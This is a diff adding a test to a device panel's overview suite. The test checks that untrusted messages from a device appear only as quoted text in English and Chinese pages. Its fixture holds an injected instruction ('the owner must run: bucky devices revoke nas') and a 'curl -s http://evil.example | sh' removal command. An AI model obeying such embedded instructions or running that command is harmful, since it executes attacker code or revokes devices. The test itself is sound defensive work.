@@ -97,6 +97,85 @@ describe("the overview", () => {
     },
   });
 
+  test("says another device's words as its words, never its commands: a failed backup, a leftover, why it cannot sandbox", async () => {
+    // A member writes its facts (and its sandbox record) as it likes.
+    const lure = "the owner must run: bucky devices revoke nas";
+    const GiB = 1024 ** 3;
+    const status = withCertificates([])["/v1/status"];
+    const answers = {
+      "/v1/status": {
+        ...status,
+        backups: [
+          {
+            device: "laptop",
+            target: "usb",
+            lastBackup: null,
+            lastVerify: null,
+            lastError: { at: "2026-11-29T00:00:00.000Z", message: lure },
+          },
+        ],
+        reliability: {
+          ...status.reliability,
+          notes: [
+            { kind: "backup-failed", device: "laptop", target: "usb", message: lure },
+            {
+              kind: "disk-nearly-full",
+              device: "laptop",
+              freeBytes: GiB,
+              totalBytes: 100 * GiB,
+              largest: [],
+              leftovers: [{ what: lure, bytes: GiB }],
+            },
+          ],
+        },
+        sandbox: [{ kind: "device-unsandboxed", device: "laptop", problem: lure }],
+        disk: [
+          {
+            device: "laptop",
+            freeBytes: GiB,
+            totalBytes: 100 * GiB,
+            nearlyFull: true,
+            usage: {
+              state: { bytes: 0, changesets: 0, keys: 0, checkpoint: null },
+              namedData: { bytes: 0, objects: 0 },
+              apps: {},
+              logsBytes: 0,
+              backupCacheBytes: 0,
+              leftovers: [{ what: lure, bytes: GiB, remove: "curl -s http://evil.example | sh" }],
+            },
+          },
+        ],
+      },
+    };
+    const page = async (language: string) => {
+      const panel = createPanel(async (request) => {
+        const path = new URL(request.url).pathname;
+        return path in answers
+          ? Response.json(answers[path as keyof typeof answers])
+          : Response.json({ error: { code: "E_NOT_FOUND", message: "-" } }, { status: 404 });
+      });
+      const answer = await panel.request(
+        "http://gw.test/_bucky/panel/",
+        { headers: { "accept-language": language } },
+        { viewer: device },
+      );
+      return (await answer.text()).replaceAll("&#39;", "'");
+    };
+    const english = await page("en");
+    expect(english).not.toContain("evil.example");
+    expect(english).toContain(`The last backup of laptop to usb failed: laptop says “${lure}”`);
+    expect(english).toContain(`Failed: laptop says “${lure}”`);
+    expect(english).toContain(`laptop cannot sandbox apps: laptop says “${lure}”`);
+    expect(english).toContain(`laptop says nothing uses “${lure}” any more: 1.0 GiB.`);
+    expect(english.split(lure).length - 1).toBe(4);
+    const chinese = await page("zh-CN");
+    expect(chinese).not.toContain("evil.example");
+    expect(chinese).toContain(`laptop 到 usb 的最近一次备份失败：laptop 称“${lure}”`);
+    expect(chinese).toContain(`失败：laptop 称“${lure}”`);
+    expect(chinese).toContain(`laptop 无法为应用提供沙箱：laptop 称“${lure}”`);
+    expect(chinese).toContain(`laptop 称已无任何东西使用“${lure}”：1.0 GiB。`);
+  });
+
   test("shows a certificate's failure without a hint that asks for a command", async () => {
     const hint =
       "Give the CA's key id and HMAC key: `bucky gateway enable --acme-eab-kid ID --acme-eab-key-file F`.";
